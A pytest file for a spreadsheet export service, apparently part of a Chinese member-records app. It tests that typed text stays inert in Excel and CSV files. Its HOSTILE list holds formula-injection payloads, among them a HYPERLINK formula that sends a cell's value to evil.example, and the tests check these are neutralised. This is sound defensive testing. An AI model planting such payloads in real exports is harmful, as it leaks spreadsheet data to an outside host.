"""Exported files: typed text stays inert text in Excel and CSV (finding 1, formula
injection), numbers stay numbers, and building a file writes its audit row."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape
from sqlmodel import select

from core.db import read_session
from models import AuditAction, AuditEntry, Role
from services.actors import Actor
from services.audit import parse_audit_detail
from services.exports import (
    EXCEL_CELL_LIMIT,
    ExportWords,
    FileFormat,
    export_table,
    table_file,
)

WORDS = ExportWords(yes="是", no="否", truncated="……（已截断）")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&E2,"click")'
HOSTILE = {
    "hyperlink": HYPERLINK,
    "plus": "+86 138 0013 8000",
    "minus": "-2+3",
    "at": "@SUM(A1:A2)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "nul": "\0=1+1",
    "full_width_equals": "＝HYPERLINK(\"http://evil.example\")",  # typed with a Chinese IME
    "full_width_plus": "＋86 138 0013 8000",
}
INERT = {
    "newline": "第一行\n=第二行",
    "astral": "𠮷野家",
    "right_to_left": "مرحبا بالعالم",
    "override": "\u202e=1+1",  # a right-to-left override before '=' does not start a formula
    "long": "长" * 10_000,
}
CLERK = Actor(user_id=None, name="clerk", role=Role.STAFF)


def _one_column_table(values: list[object]) -> pd.DataFrame:
    return pd.DataFrame({"value": values})


def _xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def _text(cell: openpyxl.cell.Cell) -> object:
    """The text Excel shows: the file stores a carriage return as the OOXML escape
    ``_x000D_``, which Excel decodes and openpyxl leaves as it is."""
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads the Chinese"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def _export(table: pd.DataFrame, file_format: FileFormat) -> bytes:
    return table_file(table, {column: column for column in table.columns}, WORDS, file_format)


@pytest.mark.parametrize("name", HOSTILE)
def test_text_that_starts_a_formula_is_inert_text_in_excel(name):
    value = HOSTILE[name]
    cells = _xlsx_cells(_export(_one_column_table([value]), FileFormat.XLSX))
    cell = cells[1][0]
    assert cell.data_type == "s"  # a string, never 'f' (a formula)
    assert _text(cell) == value  # intact: the reader sees exactly what was typed
    assert cell.quotePrefix  # and Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("name", HOSTILE)
def test_text_that_starts_a_formula_gets_a_quote_in_csv(name):
    value = HOSTILE[name]
    rows = _csv_rows(_export(_one_column_table([value]), FileFormat.CSV))
    assert rows[1] == [f"'{value}"]


@pytest.mark.parametrize("name", INERT)
def test_other_text_is_written_unchanged(name):
    value = INERT[name]
    table = _one_column_table([value])
    cell = _xlsx_cells(_export(table, FileFormat.XLSX))[1][0]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", value, False)
    assert _csv_rows(_export(table, FileFormat.CSV))[1] == [value]


def test_no_cell_of_a_hostile_table_is_a_formula():
    table = pd.DataFrame({"text": [*HOSTILE.values(), *INERT.values()]})
    cells = [cell for row in _xlsx_cells(_export(table, FileFormat.XLSX)) for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [_text(cell) for cell in cells[1:]] == table["text"].tolist()


def test_text_longer_than_an_excel_cell_is_cut_with_a_marker():
    value = "𠮷" + "长" * 40_000
    table = _one_column_table([value])
    cell = _xlsx_cells(_export(table, FileFormat.XLSX))[1][0]
    assert cell.value.endswith(WORDS.truncated)
    assert len(cell.value.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT  # Excel counts UTF-16
    assert value.startswith(cell.value.removesuffix(WORDS.truncated))
    assert _csv_rows(_export(table, FileFormat.CSV))[1] == [value]  # CSV has no such limit


def test_a_cut_never_splits_a_character_of_two_utf16_units():
    value = "𠮷" * 20_000  # 40,000 UTF-16 units
    cell = _xlsx_cells(_export(_one_column_table([value]), FileFormat.XLSX))[1][0]
    kept = cell.value.removesuffix(WORDS.truncated)
    assert set(kept) == {"𠮷"}


def test_numbers_stay_numbers_and_blanks_stay_blank():
    table = pd.DataFrame({
        "amount": [-12.5, None, 3.0],
        "count": pd.array([-2, None, 7], dtype="Int64"),
        "note": ["-12.5", None, float("nan")],
    })
    cells = _xlsx_cells(_export(table, FileFormat.XLSX))
    assert [(c.value, c.data_type) for c in cells[1]] == [(-12.5, "n"), (-2, "n"),
                                                          ("-12.5", "s")]
    assert [c.value for c in cells[2]] == [None, None, None]
    assert [c.value for c in cells[3]] == [3, 7, None]
    rows = _csv_rows(_export(table, FileFormat.CSV))
    assert rows[1:] == [["-12.5", "-2", "'-12.5"], ["", "", ""], ["3", "7", ""]]
    # Only text is quoted in the CSV, so a spreadsheet reads the numbers as numbers.
    assert _export(table, FileFormat.CSV).splitlines()[1] == b'-12.5,-2,"\'-12.5"'


def test_dates_stay_readable(monkeypatch):
    monkeypatch.setenv("LIAISON_TIMEZONE", "Asia/Shanghai")
    table = pd.DataFrame({"day": [date(2026, 11, 21)],
                          "at": [datetime(2026, 11, 21, 1, 30, 59, tzinfo=UTC)]})
    day, moment = _xlsx_cells(_export(table, FileFormat.XLSX))[1]
    assert (day.value, day.number_format) == (datetime(2026, 11, 21), "yyyy-mm-dd")
    assert (moment.value, moment.number_format) == (datetime(2026, 11, 21, 9, 30),
                                                    "yyyy-mm-dd hh:mm")  # office time
    assert _csv_rows(_export(table, FileFormat.CSV))[1] == ["2026-11-21", "2026-11-21 09:30"]


def test_exports_use_the_page_labels_yes_no_and_keep_phone_numbers_as_text():
    table = pd.DataFrame({"name": ["刘洋"], "phone": ["13800138000"], "is_cpc": [True],
                          "internal": ["x"], "is_standing": [False]})
    labels = {"name": "姓名", "phone": "联系电话", "is_cpc": "中共党员", "is_standing": "常委",
              "not_in_table": "?"}
    for file_format in FileFormat:
        content = table_file(table, labels, WORDS, file_format)
        if file_format is FileFormat.XLSX:
            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
            rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
            assert sheet["B2"].data_type == "s"  # a text cell, not 1.38E+10
            assert sheet.column_dimensions["A"].width == pytest.approx(18, abs=1)
        else:
            rows = _csv_rows(content)
        assert rows == [["姓名", "联系电话", "中共党员", "常委"],
                        ["刘洋", "13800138000", "是", "否"]]


def test_an_empty_table_still_has_its_header():
    table = pd.DataFrame({"name": pd.Series([], dtype=object)})
    assert [[c.value for c in row] for row in _xlsx_cells(_export(table, FileFormat.XLSX))] == [
        ["name"]]
    assert _csv_rows(_export(table, FileFormat.CSV)) == [["name"]]


def test_building_an_export_writes_one_audit_row_with_its_size_and_format(engine):
    table = pd.DataFrame({"name": ["刘洋", "王芳"]})
    content = export_table(engine=engine, actor=CLERK, table=table, labels={"name": "姓名"},
                           words=WORDS, what="Member", file_format=FileFormat.CSV)
    assert _csv_rows(content)[1:] == [["刘洋"], ["王芳"]]
    with read_session(engine) as session:
        entry = session.exec(select(AuditEntry)).one()
    assert (entry.action, entry.entity, entry.actor_name) == (AuditAction.EXPORT, "Member",
                                                              "clerk")
    assert parse_audit_detail(entry.detail) == ("audit.detail.export",
                                                {"format": "csv", "rows": 2})


def test_the_excel_header_stays_in_view():
    content = _export(_one_column_table(["a", "b"]), FileFormat.XLSX)
    assert openpyxl.load_workbook(io.BytesIO(content)).active.freeze_panes == "A2"
